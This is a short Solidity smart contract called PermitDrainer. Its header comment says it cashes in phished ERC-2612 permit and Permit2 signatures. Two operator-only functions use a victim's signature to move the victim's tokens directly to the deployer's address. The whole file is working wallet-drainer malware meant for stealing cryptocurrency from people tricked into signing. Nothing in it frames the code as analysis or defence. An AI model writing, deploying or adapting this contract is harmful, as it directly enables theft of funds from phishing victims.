// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20Permit {
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external;
    function transferFrom(address, address, uint256) external returns (bool);
}
interface IPermit2 {
    struct TokenPermissions { address token; uint256 amount; }
    struct PermitTransferFrom { TokenPermissions permitted; uint256 nonce; uint256 deadline; }
    struct SignatureTransferDetails { address to; uint256 requestedAmount; }
    function permitTransferFrom(PermitTransferFrom calldata, SignatureTransferDetails calldata, address owner, bytes calldata signature) external;
}

/// Cashes in phished off-chain signatures: ERC-2612 permits and Permit2 transfers, straight to the operator.
contract PermitDrainer {
    IPermit2 private constant PERMIT2 = IPermit2(0x000000000022D473030F116dDEE9F6B43aC78BA3);
    address private immutable operator;

    constructor() { operator = msg.sender; }

    function permitAndTake(address token, address victim, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(msg.sender == operator);
        IERC20Permit(token).permit(victim, address(this), value, deadline, v, r, s);
        IERC20Permit(token).transferFrom(victim, operator, value);
    }

    function takePermit2(address token, uint256 amount, uint256 nonce, uint256 deadline, address victim, bytes calldata sig) external {
        require(msg.sender == operator);
        PERMIT2.permitTransferFrom(
            IPermit2.PermitTransferFrom(IPermit2.TokenPermissions(token, amount), nonce, deadline),
            IPermit2.SignatureTransferDetails(operator, amount),
            victim,
            sig
        );
    }
}
